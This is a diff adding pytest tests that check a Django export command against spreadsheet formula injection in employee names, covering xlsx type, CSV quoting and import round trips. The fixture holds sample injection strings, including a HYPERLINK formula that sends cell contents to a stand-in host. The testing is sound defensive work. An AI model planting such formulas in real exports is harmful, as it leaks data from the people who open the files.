@@ -51,3 +51,44 @@ def test_a_manager_exports_only_himself_and_others_are_refused(world, tmp_path):
         call_command("export", "roster", str(tmp_path / "x.json"))
     with pytest.raises(CommandError):
         call_command("export", "org", str(tmp_path / "x.csv"))
+
+
+HOSTILE = {
+    "E0001": '=HYPERLINK("http://x/?"&E2,"y")',
+    "E0002": "+1+1",
+    "T0001": "-2+3",
+    "E0100": "@SUM(A1)",
+}
+
+
+@pytest.fixture
+def hostile_names(world):
+    for number, name in HOSTILE.items():
+        Employee.objects.filter(employee_no=number).update(name=name)
+
+
+def test_it_exports_formula_like_names_as_plain_text_to_xlsx(world, hostile_names, tmp_path):
+    path = tmp_path / "roster.xlsx"
+    call_command("export", "roster", str(path))
+    sheet = load_workbook(path).active
+    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    assert {number: cell.value for number, cell in names.items()} == HOSTILE
+    assert {cell.data_type for cell in names.values()} == {"s"}
+
+
+def test_it_quotes_formula_like_names_in_csv(world, hostile_names, tmp_path):
+    path = tmp_path / "roster.csv"
+    call_command("export", "roster", str(path))
+    text = path.read_bytes().decode("utf-8-sig")
+    for name in HOSTILE.values():
+        assert '"\'' + name.replace('"', '""') + '"' in text
+
+
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_it_reads_formula_like_names_back_unchanged(world, hostile_names, tmp_path, suffix, capsys):
+    path = tmp_path / f"roster{suffix}"
+    call_command("export", "roster", str(path))
+    call_command("import", "roster", str(path), "--dry-run")
+    assert "created 0, updated 0, unchanged 4" in capsys.readouterr().out
+    names = Employee.objects.filter(employee_no__in=HOSTILE).values_list("employee_no", "name")
+    assert dict(names) == HOSTILE
